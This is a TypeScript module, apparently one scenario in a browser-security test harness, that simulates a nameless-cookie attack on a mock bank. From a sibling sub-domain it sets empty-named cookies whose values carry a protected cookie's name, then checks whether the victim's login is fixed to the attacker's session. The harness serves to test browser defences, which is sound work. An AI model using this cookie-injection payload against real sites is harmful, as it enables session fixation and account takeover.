import { type Attack, afterPlant } from '../stage.ts'
import { PARENT } from '../world/hosts.ts'
import { NOTHING_TO_PLANT, ownOfBothKinds } from './plant.ts'

export const attack: Attack = {
  title: 'A cookie without a name, whose value has the name in it',
  who: 'somebody who has another sub-domain of the bank’s site',
  story: 'A cookie without a name is sent as its value alone. One whose value is “name=value” arrives as if it had the name that browsers protect.',
  decides: 'whom the bank takes the attacker’s own browser for after the victim’s login, and whether the victim is logged in at all',
  mayHaveNothing: true,
  async play(stage) {
    const { victim, site, tell } = stage
    const known = await ownOfBothKinds(stage)
    if (known.length === 0) return NOTHING_TO_PLANT
    const nameless = known.map(({ name, value }) => `=${name}=${value}; Domain=${PARENT}; Path=/login; Secure`)
    await victim.visit(site.bait('sibling', { headers: { 'set-cookie': nameless } }))
    await tell('The victim opens a page on the attacker’s sub-domain, which sets these cookies without a name.')
    const wasTaken = (await victim.context.cookies()).some(({ name }) => name === '')
    if (!wasTaken) return { verdict: 'not possible', note: 'this browser takes no nameless cookie whose value looks like one with a name' }
    await victim.logIn('ann')
    await tell('The victim logs in.')
    return afterPlant(stage, known)
  },
}
